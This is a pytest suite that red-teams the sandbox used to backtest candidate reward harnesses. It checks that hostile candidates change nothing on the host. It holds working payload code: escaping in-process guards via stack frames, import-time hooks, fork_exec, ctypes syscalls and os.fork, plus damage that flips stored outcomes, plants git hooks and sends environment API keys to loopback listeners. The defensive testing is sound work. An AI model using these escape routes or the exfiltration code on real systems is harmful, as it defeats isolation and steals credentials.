"""Red-team tests of the harness sandbox: a candidate harness that tries to escape, run through the real backtest.

Each test commits a hostile candidate into a real workspace's harness git repo and backtests it
(evotrainer.backtest.backtest, the path of `evotrainer backtest`), or, for the probes at the end,
runs it through the SandboxPool that path uses. The escape routes are the ones that worked
against the in-process guards alone: code that runs while an import is in progress, switching
the guard off through frames, and process creation that raises no audit event
(`_posixsubprocess.fork_exec`, ctypes, os.fork). Once out, the payload tries what an attacker
wants: move `refs/heads/main`, flip verified outcomes in store.db, plant git hooks that the
trusted parent runs later, read held-out rows, read API keys from the environment and send them
to a TCP server and an abstract unix socket on the host's loopback, write into $HOME.

The workspace, the fake $HOME and the marker folder live outside /tmp and are world-writable, so
only the sandbox (its own root, uid and network) stands between the payload and them. Every test
checks that nothing changed: store rows, `main`, the hooks folder, the marker files, what the
servers received; and that the candidate was not promoted.
"""

from __future__ import annotations

import os
import socket
import sqlite3
import stat
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest
from factories import make_rollout

from evotrainer.api import rollout_to_dict
from evotrainer.backtest import Selector, backtest
from evotrainer.harness.loader import read_sources
from evotrainer.harness.repo import HarnessRepo
from evotrainer.harness.sandbox import CandidateFailure, SandboxPool
from evotrainer.paths import HARNESSES_DIR
from evotrainer.report.distributions import RewardJob
from evotrainer.sandbox import isolation_support
from evotrainer.store import Store
from tests.test_backtest import BASE_REWARD, gate_groups, workspace

pytestmark = pytest.mark.skipif(
    not all(isolation_support().get(k) for k in ("netns", "mountns", "pidns")),
    reason="no user namespaces here: harness workers refuse to start (tested in test_fails_closed...)")

SECRET = "sk-fake-0123456789abcdef"
SEED = read_sources(HARNESSES_DIR / "math")
SEED_REWARD = BASE_REWARD  # what the workspace's main holds: an unchanged reward is never promoted


class Listener:
    """A TCP server on the host's 127.0.0.1 and an abstract unix socket: what arrives is kept."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.abstract = f"evotrainer-escape-{os.getpid()}-{self.port}"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind("\0" + self.abstract)
        self.unix.listen(16)
        for server in (self.tcp, self.unix):
            threading.Thread(target=self._serve, args=(server,), daemon=True).start()

    def _serve(self, server: socket.socket) -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b""
                try:
                    while chunk := conn.recv(65536):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data or b"<connected>")

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


def _damage(ws: Path, marks: Path, home: Path, port: int, abstract: str) -> str:
    """Python source that does every harmful thing it can, each step on its own (errors ignored)."""
    return f'''
def _damage(os, sys):
    import json
    ws, marks, home = {str(ws)!r}, {str(marks)!r}, {str(home)!r}
    git = ws + "/harnesses/.git"
    def step(f):
        try:
            f()
        except BaseException:
            pass
    def w(path, text, mode=0o644):
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode)
        os.write(fd, text.encode()); os.close(fd); os.chmod(path, mode)
    step(lambda: w(marks + "/escaped", "out"))
    step(lambda: w(home + "/planted", "in your home"))
    main = git + "/refs/heads/main"
    def move_main():
        with open(git + "/HEAD") as f:
            pass
        w(main, "0" * 40 + "\\n")
    step(move_main)
    hook = "#!/bin/sh\\ntouch " + marks + "/hook-ran\\n"
    for name in ("reference-transaction", "post-commit", "pre-commit", "post-update", "post-checkout"):
        step(lambda name=name: w(git + "/hooks/" + name, hook, 0o755))
    def flip():
        sqlite3 = sys.modules.get("sqlite3") or __import__("sqlite3")
        db = sqlite3.connect(ws + "/store.db")
        db.execute("UPDATE rollouts SET outcome_success = 1, outcome_score = 1.0, outcome_kind = 'ok'")
        db.commit()
        leak["rows"] = db.execute("SELECT id, completion FROM rollouts").fetchall()[:50]
    leak = {{"env": dict(os.environ)}}
    step(flip)
    def raw():
        with open(ws + "/store.db", "rb") as f:
            leak["db"] = f.read(4096).hex()
    step(raw)
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():  # a host process's root
        step(lambda pid=pid: w("/proc/" + pid + "/root" + marks + "/via-proc", "out"))
    payload = json.dumps(leak, default=str).encode()
    def send(family, address):
        socket = sys.modules.get("socket") or __import__("socket")
        s = socket.socket(family)
        s.settimeout(2)
        s.connect(address)
        s.sendall(payload)
        s.close()
    step(lambda: send(1, "\\0" + {abstract!r}))
    step(lambda: send(2, ("127.0.0.1", {port})))
'''


def _shell(ws: Path, marks: Path, home: Path, port: int, abstract: str) -> str:
    """A shell command that runs the same damage in a fresh, unguarded Python."""
    code = _damage(ws, marks, home, port, abstract) + "\nimport os, sys\n_damage(os, sys)\n"
    return f"{sys.executable} -c {_quote(code)}; touch {marks}/shell-ran"


def _quote(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def _with_payload(body: str) -> str:
    """The seed reward.py with `body` run once, from inside reward() (the guard is on there)."""
    return SEED_REWARD + f'''

_first = [True]
_seed_reward = reward


def reward(rollout):
    if _first[0]:
        _first[0] = False
        try:
{_indent(body, 12)}
        except BaseException:
            pass
    return _seed_reward(rollout)
'''


def _indent(text: str, n: int) -> str:
    return "\n".join(" " * n + line if line.strip() else line for line in text.strip("\n").splitlines())


# The routes out of the in-process guard. Each ends with `os` and `sys` in hand and runs DAMAGE
# in-process, and SHELL in a new process.
GUARD_OFF = '''
try:
    1 / 0
except ZeroDivisionError as exc:
    frame = exc.__traceback__.tb_frame
while frame is not None and not hasattr(frame.f_locals.get("self"), "_guard"):
    frame = frame.f_back
frame.f_locals["self"]._guard.locked = False  # SandboxedHarness._run's guard
import random
os = random._os
sys = os.sys
'''

ROUTES = {
    # While an allowed module is imported the audit hook stands aside: a str subclass in the
    # fromlist runs harness code inside that window.
    "import-time": '''
import random
os = random._os
sys = os.sys
class Name(str):
    def __eq__(self, other):
        exec(SHELL_OR_DAMAGE, {"os": os, "sys": sys, "__builtins__": __builtins__})
        return str.__eq__(self, other)
    __hash__ = str.__hash__
__import__("json", fromlist=[Name("dumps")])
''',
    "frames-then-subprocess": GUARD_OFF + '''
subprocess = __import__("subprocess")
subprocess.run(["/bin/sh", "-c", SHELL], timeout=20)
''',
    "frames-then-damage-in-process": GUARD_OFF + '''
g = {"__builtins__": __builtins__}
exec(DAMAGE, g)
g["_damage"](os, sys)
''',
    "posixsubprocess-fork-exec": '''
import random
os = random._os
sys = os.sys
fork_exec = sys.modules["_posixsubprocess"].fork_exec
r, w = os.pipe()
argv = [b"/bin/sh", b"-c", SHELL.encode()]
common = (argv, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, -1,
          None, None, None)
for tail in ((-1, None, True), (-1, None), (None,)):  # umask, preexec_fn, use_vfork: by version
    try:
        fork_exec(*common, *tail)
        break
    except TypeError:
        pass
''',
    "posix-spawn-frames": GUARD_OFF + '''
os.posix_spawn("/bin/sh", ["/bin/sh", "-c", SHELL], dict(os.environ))
''',
    "ctypes-system": GUARD_OFF + '''
ctypes = sys.modules.get("ctypes") or __import__("ctypes")
libc = ctypes.CDLL(None)
libc.system(SHELL.encode())
''',
    "ctypes-raw-syscalls": GUARD_OFF + '''
ctypes = sys.modules.get("ctypes") or __import__("ctypes")
libc = ctypes.CDLL(None)
pid = libc.syscall(57)  # fork(2) on x86_64, no libc wrapper, no audit event
if pid == 0:
    g = {"__builtins__": __builtins__}; exec(DAMAGE, g); g["_damage"](os, sys); os._exit(0)
''',
    "os-fork": GUARD_OFF + '''
if os.fork() == 0:
    g = {"__builtins__": __builtins__}; exec(DAMAGE, g); g["_damage"](os, sys)
    os.system(SHELL)
    os._exit(0)
''',
    # Only the test's own decoy process is ever a target: were the sandbox to fail, this must
    # still not harm anything else on the machine.
    "kill-a-host-process": GUARD_OFF + '''
os.kill(DECOY, 9)
''',
}


@pytest.fixture
def outside():
    """A world-writable folder outside /tmp (the sandbox's /tmp is private anyway)."""
    base = Path(os.environ.get("EVOTRAINER_ESCAPE_DIR", "/var/tmp"))
    path = Path(tempfile.mkdtemp(prefix="evotrainer-escape-", dir=base))
    os.chmod(path, 0o777)
    yield path
    subprocess.run(["rm", "-rf", str(path)], check=False)


@pytest.fixture
def arena(outside: Path, monkeypatch):
    """A workspace with two rounds of rollouts (some held out), a fake home, secrets in the
    environment, and the listeners; everything the sandbox must protect is world-writable."""
    ws = workspace(outside / "work")
    with Store.open(ws.root) as store:
        run = store.get_or_create_run("default", "math", {})
        round_ = store.start_round(run, 0, "seed", "base")
        store.add_rollouts(gate_groups(run_id=run, round_id=round_))
    for dirpath, dirnames, filenames in os.walk(outside):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            if not os.path.islink(p):
                os.chmod(p, os.stat(p).st_mode | stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
    home, marks = outside / "home", outside / "marks"
    for d in (home, marks):
        d.mkdir()
        os.chmod(d, 0o777)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("EVOTRAINER_LLM_API_KEY", SECRET)
    listener = Listener()
    yield ws, home, marks, listener
    listener.close()


def _state(ws, home: Path, marks: Path) -> dict:
    git = ws.harnesses / ".git"
    db = sqlite3.connect(f"file:{ws.root / 'store.db'}?mode=ro", uri=True)
    try:
        rows = db.execute("SELECT id, outcome_success, outcome_score, outcome_kind FROM rollouts "
                          "ORDER BY id").fetchall()
    finally:
        db.close()
    main = subprocess.run(["git", "-C", str(ws.harnesses), "rev-parse", "main"], capture_output=True,
                          text=True, check=True).stdout.strip()
    return {"rows": rows, "main": main, "hooks": sorted(p.name for p in (git / "hooks").iterdir()),
            "home": sorted(p.name for p in home.iterdir()), "marks": sorted(p.name for p in marks.iterdir())}


def _attack(arena, route: str) -> dict:
    ws, home, marks, listener = arena
    damage = _damage(ws.root, marks, home, listener.port, listener.abstract)
    shell = _shell(ws.root, marks, home, listener.port, listener.abstract)
    body = ROUTES[route]
    if route == "import-time":
        body = f"SHELL_OR_DAMAGE = {damage + chr(10) + '_damage(os, sys)'!r}\n" + body
    decoy = subprocess.Popen(["sleep", "600"])
    body = f"DAMAGE = {damage!r}\nSHELL = {shell!r}\nDECOY = {decoy.pid}\n" + body
    before = _state(ws, home, marks)
    branch = HarnessRepo(ws.harnesses).propose(1, route, {"reward.py": _with_payload(body)},
                                               diagnosis="dead groups", targets="dead_group_ratio",
                                               expected="fewer dead groups").branch
    with Store.open(ws.root) as store:
        report = backtest(ws.root, branch, store=store, selector=Selector(run="default", round=0))
    after = _state(ws, home, marks)
    alive = decoy.poll() is None
    decoy.kill()
    decoy.wait()
    assert alive, f"{route}: the payload killed a host process"
    assert after == before, f"{route}: the payload changed the host"
    assert listener.received == [], f"{route}: the payload reached the host's loopback"
    assert report["decision"] != "promote"
    return report


@pytest.mark.parametrize("route", sorted(ROUTES))
def test_an_escape_route_has_no_effect(arena, route):
    report = _attack(arena, route)
    if route in ("frames-then-subprocess", "posixsubprocess-fork-exec", "posix-spawn-frames", "ctypes-system",
                 "ctypes-raw-syscalls", "os-fork", "kill-a-host-process"):
        # Creating a process is a syscall the seccomp filter answers by killing the worker: the
        # candidate fails, whatever its code did with the exception.
        assert report["failure"], report
        assert "forbids" in report["failure"]["reason"] or "attempted" in report["failure"]["reason"], report


def test_git_hooks_planted_before_the_backtest_cannot_come_from_the_worker(arena):
    """After a hostile backtest the trusted parent still moves refs/backtests/* and writes a
    trailer: had a hook been planted, it would have run then. None was."""
    ws, _home, marks, _ = arena
    _attack(arena, "frames-then-damage-in-process")
    repo = HarnessRepo(ws.harnesses)
    repo.propose(2, "after", {"reward.py": SEED_REWARD + "\n"}, diagnosis="x", targets="proxy_auc",
                 expected="y")
    assert not (marks / "hook-ran").exists()


# ---------------------------------------------------------------- probes from inside a worker


def _probe(expression_body: str, monkeypatch=None) -> float:
    """Run reward.py whose 'correct' component is what `expression_body` computes (the guard
    switched off first), through a real SandboxPool; return that number."""
    reward = SEED_REWARD + f'''

def reward(rollout):
{_indent(GUARD_OFF, 4)}
{_indent(expression_body, 4)}
    return {{"correct": float(value), "format": 0.0}}
'''
    r = make_rollout("a", task_id="t", prompt="p", completion="c", success=True, num_tokens=3)
    with SandboxPool([("candidate", {**SEED, "reward.py": reward})], RewardJob(), 1) as pool:
        assert pool.isolation["seccomp"] and pool.isolation["root"] and pool.isolation["netns"]
        (_, out), = pool.imap([([0], [rollout_to_dict(r)])])
    return out[0][0]


def test_worker_environment_holds_no_secrets(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("EVOTRAINER_JUDGE_API_KEY", SECRET)
    monkeypatch.setenv("EVOTRAINER_STORE_URL", "sqlite:////secret/store.db")
    value = _probe('''
allowed = {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "TERM", "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE",
           "PYTHONUNBUFFERED", "PYTHONIOENCODING", "PYTHONPATH", "PYTHONHASHSEED", "OMP_NUM_THREADS",
           "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS", "PYTHONSAFEPATH"}
env = os.environ
value = 1000 * sum(1 for v in env.values() if "sk-fake" in v or "secret" in v) + len(set(env) - allowed)
''')
    assert value == 0


def test_worker_has_no_descriptors_but_its_socket():
    value = _probe('''
fds, kinds = [], []
for f in os.listdir("/proc/self/fd"):
    try:
        kinds.append(os.readlink("/proc/self/fd/" + f))
        fds.append(int(f))
    except OSError:  # the listing's own descriptor, closed by now
        pass
value = sum(1 for f, k in zip(fds, kinds) if f > 2 and not k.startswith("socket:") and "/proc/" not in k)
value += 100 * sum(1 for k in kinds if k.startswith("socket:")) - 100
value += 1000 * sum(1 for f, k in zip(fds, kinds) if f <= 2 and k != "/dev/null")
''')
    assert value == 0  # 0-2 are /dev/null, one socket (the messages), and the listing itself


def test_worker_sees_no_workspace_home_or_checkout(tmp_path: Path):
    import evotrainer

    checkout = Path(evotrainer.__file__).resolve().parent.parent
    from evotrainer.paths import evotrainer_home

    # Folders above the interpreter's files exist (they lead to it), holding nothing else.
    hidden = [str(checkout / ".git"), str(checkout / "tests"), str(checkout / "pyproject.toml"), str(evotrainer_home()),
              str(Path.home() / ".cache"), str(tmp_path), "/etc/passwd", "/etc/shadow", "/home", "/var", "/srv",
              "/run", "/sys"]
    value = _probe(f'''
value = sum(1 for p in {hidden!r} if os.path.exists(p))
value += 10 * (not os.path.isdir({str(checkout / "evotrainer")!r}))  # the package: read-only
try:
    open({str(checkout / "evotrainer" / "planted.py")!r}, "w")
    value += 100
except OSError:
    pass
value += 1000 * (os.getuid() == 0 or os.geteuid() == 0)
''')
    assert value == 0
    assert not (checkout / "evotrainer" / "planted.py").exists()


def test_worker_runs_under_seccomp_with_a_fresh_uid():
    value = _probe('''
with open("/proc/self/status") as f:
    status = dict(line.split(":", 1) for line in f if ":" in line)
value = (status["Seccomp"].strip() != "2") + 10 * (status["NoNewPrivs"].strip() != "1")
value += 100 * (int(status["Uid"].split()[0]) < 1_000_000_000 and os.getuid() != 0)
''')
    assert value == 0


def test_threads_still_work_under_the_filter():
    value = _probe('''
threading = sys.modules.get("threading") or __import__("threading")
out = []
t = threading.Thread(target=lambda: out.append(7))
t.start(); t.join()
value = 7 - out[0]
''')
    assert value == 0


def test_worker_cannot_reach_the_hosts_loopback():
    listener = Listener()
    try:
        with pytest.raises(CandidateFailure, match="forbids"):  # AF_INET: the filter kills it
            _probe(f'''
socket = sys.modules.get("socket") or __import__("socket")
s = socket.socket()
s.connect(("127.0.0.1", {listener.port}))
value = 1
''')
        value = _probe(f'''
socket = sys.modules.get("socket") or __import__("socket")
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\\0{listener.abstract}")
    s.sendall(b"x")
    value = 1
except OSError:
    value = 0
''')
        assert value == 0
    finally:
        listener.close()
    assert listener.received == []


def test_fails_closed_without_isolation(monkeypatch):
    """A machine without namespaces gives SandboxError naming the opt-out, never an unsandboxed worker."""
    from evotrainer.harness import sandbox_launch
    from evotrainer.harness.sandbox import SandboxError

    monkeypatch.setattr(sandbox_launch, "isolation_support", lambda: {
        "root": False, "netns": False, "mountns": False, "pidns": False, "uid_drop": False,
        "probe_error": "unshare: Operation not permitted"})
    with pytest.raises(SandboxError, match=sandbox_launch.ISOLATION_ENV), SandboxPool([("candidate", SEED)], RewardJob(), 1):
        pass
    monkeypatch.setenv(sandbox_launch.ISOLATION_ENV, "bogus")
    with pytest.raises(SandboxError, match="expected 'os'"), SandboxPool([("candidate", SEED)], RewardJob(), 1):
        pass


def test_worker_cannot_fill_the_hosts_disk():
    """Its writable folders are size-capped tmpfs of its own, not host folders."""
    value = _probe('''
written = 0
block = b"x" * (1 << 20)
try:
    for i in range(200):
        with open("/sandbox/fill-%d" % i, "wb") as f:
            f.write(block)
        written += 1
except OSError:
    pass
value = written >= 200
''')
    assert value == 0


SYSCALLS = {  # x86_64 numbers; each is refused by the filter, which kills the worker
    "x32-abi-fork": "libc.syscall(0x40000000 | 57)",
    "unshare-a-user-namespace": "libc.unshare(0x10000000)",
    "ptrace-attach": "libc.ptrace(16, 1, 0, 0)",
    "io-uring-setup": "libc.syscall(425, 8, ctypes.create_string_buffer(120))",
    "netlink-socket": "libc.socket(16, 3, 0)",
    "signal-pid-1": "libc.kill(1, 0)",
    "execve": "libc.execve(b'/bin/sh', None, None)",
    "mount-proc": "libc.mount(b'proc', b'/sandbox', b'proc', 0, None)",
    "chroot": "libc.chroot(b'/sandbox')",
}


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the syscall numbers below are x86_64's")
@pytest.mark.parametrize("name", sorted(SYSCALLS))
def test_forbidden_syscalls_kill_the_worker(name):
    with pytest.raises(CandidateFailure, match="forbids"):
        _probe(f'''
ctypes = sys.modules.get("ctypes") or __import__("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
value = {SYSCALLS[name]}
''')


def test_worker_sees_no_other_process_and_no_secret_in_proc(monkeypatch):
    """Its /proc is its own pid namespace's: the launcher's reaper and itself, neither holding a key."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    value = _probe('''
pids = [p for p in os.listdir("/proc") if p.isdigit()]
leaks = 0
for p in pids:
    for name in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (p, name), "rb") as f:
                leaks += b"sk-fake" in f.read()
        except OSError:
            pass
value = 100 * leaks + max(0, len(pids) - 2)
''')
    assert value == 0


@pytest.mark.parametrize("payload", [b"[" * 200_000 + b"]" * 200_000, b'{"a":' * 200_000 + b"1" + b"}" * 200_000])
def test_a_deeply_nested_frame_from_the_worker_fails_the_candidate_not_the_parent(payload):
    """A worker's harness code writes its own frame to the message socket: JSON nested far past
    the parent's recursion limit. Decoding it must fail the candidate, never raise in the parent."""
    reward = SEED_REWARD + f'''

def reward(rollout):
{_indent(GUARD_OFF, 4)}
    import struct
    payload = {payload!r}
    for f in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + f).startswith("socket:"):
                os.write(int(f), struct.pack("!i", len(payload)) + payload)
        except OSError:
            pass
    return {{"correct": 1.0, "format": 0.0}}
'''
    r = make_rollout("a", task_id="t", prompt="p", completion="c", success=True, num_tokens=3)
    with pytest.raises(CandidateFailure) as failure:
        with SandboxPool([("candidate", {**SEED, "reward.py": reward})], RewardJob(), 1) as pool:
            list(pool.imap([([0], [rollout_to_dict(r)])]))
    assert failure.value.harness == "candidate"
